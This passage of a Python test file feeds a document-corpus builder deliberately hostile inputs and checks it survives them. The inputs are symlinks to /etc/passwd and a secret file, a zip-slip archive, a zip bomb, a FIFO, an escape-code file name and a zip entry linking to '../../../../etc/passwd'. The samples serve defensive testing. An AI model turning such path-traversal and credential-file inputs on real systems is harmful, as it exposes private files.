    assert list(corpus.quotes["speaker"]) == ["Jens Stoltenberg"]
    assert not any(ch in INVISIBLE for ch in " ".join(corpus.speakers["speaker"]))


def _tree(folder: Path) -> dict[str, tuple]:
    """Every entry under ``folder`` (links not followed): its kind, and its bytes for a file."""
    import os
    import stat as stat_

    found = {}
    for directory, folders, files in os.walk(folder):
        for name in folders + files:
            path = Path(directory) / name
            info = os.lstat(path)
            content = path.read_bytes() if stat_.S_ISREG(info.st_mode) else os.readlink(path) if path.is_symlink() else None
            found[str(path.relative_to(folder))] = (stat_.S_IFMT(info.st_mode), stat_.S_IMODE(info.st_mode), content)
    return found


def test_a_hostile_corpus_builds_with_every_input_accounted_for(tmp_path, no_hang, capsys):
    """Issue 19's 'done when': every hostile input of the issue in one folder, built with the
    command line: exit 0, each entry in ``articles`` or ``problems``, nothing read from outside
    the inputs, no file of the user's changed or deleted."""
    import os
    import socket

    from data_pipeline import cli

    write(tmp_path, "secret.txt", SECRET)
    folder = tmp_path / "in"
    nested_html = _nested_divs(1_000_000)
    files = {
        "good.txt": REPORT,
        "latin.txt": SPOKEN.encode("cp1252"),
        "bad_utf8.txt": (SPOKEN + " " + CURLY).encode().replace("Zürich".encode(), b"Z\xfcrich"),
        "utf16.txt": CURLY.encode("utf-16-le"),
        "utf32.txt": SPOKEN.encode("utf-32-be"),
        "bidi.jsonl": json.dumps({"title": f"NATO{INVISIBLE} talks", "source": f"\u202eDaily{INVISIBLE}", "text": REPORT}),
        "deep.html": nested_html,
        "spans.html": HOSTILE_PAGES["280,000 spans, 4 MB"](),
        "huge.html": "<html><body>" + "<p>NATO met.</p>" * 600_000,
        "page.html": HOSTILE_HTML,
        "dump.txt": "NATO and Russia met in Brussels. " * 200_000,
        "surrogate.json": '{"text": "Talks \\ud800 began.", "title": "T"}',
        "hugeint.json": '{"text": "Talks began on Monday.", "views": ' + "9" * 5000 + "}",
        "nested.jsonl": "[" * 100_000 + "]" * 100_000 + "\n",
        "dates.jsonl": "\n".join(
            json.dumps({"text": f"Talks began on Monday {n}.", "published": day})
            for n, day in enumerate(["2300-01-01", "1600-01-01", "9999-12-31", "0001-01-01"])
        ),
        "binary.txt": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8,
        "slip.zip": zip_bytes({"../evil.txt": REPORT + " A", "ok.txt": REPORT + " zipped"}),
        "bomb.zip": zip_bytes({"bomb.txt": b" " * 4_000_000}),
        "name\x1b[31m\nred.txt": REPORT + " Named.",
        "dated.txt": REPORT + " Dated.",
        "manifest.csv": "path,published\ndated.txt,0022-01-07\n",
    }
    for name, content in files.items():
        write(folder, name, content)
    (folder / "secret.txt").symlink_to(tmp_path / "secret.txt")
    (folder / "passwd.txt").symlink_to("/etc/passwd")
    (folder / "zero.txt").symlink_to("/dev/zero")
    (folder / "broken.txt").symlink_to(folder / "gone.txt")
    os.mkfifo(folder / "pipe.txt")
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(folder / "sock.txt"))
    before = _tree(tmp_path)
    try:
        status = cli.main(["build", str(folder), "--out", str(tmp_path / "out"), "--quiet"])
    finally:
        server.close()
    assert status == 0
    assert _tree(tmp_path) == before | {k: v for k, v in _tree(tmp_path).items() if k.split("/")[0] == "out"}
    tables = {name: pd.read_parquet(tmp_path / "out" / f"{name}.parquet") for name in ("articles", "problems")}
    entries = set(os.listdir(folder)) - {"manifest.csv"}
    accounted = {p.split("!")[0].split("#")[0].removeprefix("in/") for t in tables.values() for p in t["path"]}
    assert accounted == entries
    for name in ("good.txt", "latin.txt", "bad_utf8.txt", "utf16.txt", "utf32.txt", "page.html", "dated.txt"):
        assert f"in/{name}" in set(tables["articles"]["path"]), name
    problems = dict(zip(tables["problems"]["path"], tables["problems"]["problem"], strict=False))
    assert problems["in/secret.txt"].startswith("symlink outside the inputs")
    assert problems["in/pipe.txt"].startswith("not a regular file (a FIFO)")
    assert problems["in/deep.html"].startswith("HTML nested deeper")
    assert problems["in/bad_utf8.txt"].startswith("invalid UTF-8")
    everything = " ".join(
        str(value)
        for name in ("articles", "sentences", "quotes", "problems")
        for value in pd.read_parquet(tmp_path / "out" / f"{name}.parquet").astype(str).to_numpy().ravel()
    )
    assert "SECRET-MARKER" not in everything and "root:x:0" not in everything
    assert not any(ch in INVISIBLE for ch in " ".join(tables["articles"][["title", "source"]].fillna("").to_numpy().ravel()))
    assert "\x1b" not in capsys.readouterr().err  # the name with ESC is printed escaped


def test_a_symlink_or_fifo_inside_a_zip_is_a_problem_not_an_article(tmp_path):
    import stat as stat_

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, mode, content in [
            ("link.txt", stat_.S_IFLNK | 0o777, "../../../../etc/passwd"),
            ("pipe.txt", stat_.S_IFIFO | 0o644, ""),
            ("ok.txt", stat_.S_IFREG | 0o644, REPORT),
        ]:
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            archive.writestr(info, content)
    corpus = build_corpus([write(tmp_path, "c.zip", buffer.getvalue())])
    assert list(corpus.articles["path"]) == ["c.zip!ok.txt"]
    assert problems_of(corpus) == {
        "c.zip!link.txt": "not a regular file in the zip (a symlink): not read",
        "c.zip!pipe.txt": "not a regular file in the zip (a FIFO): not read",
    }
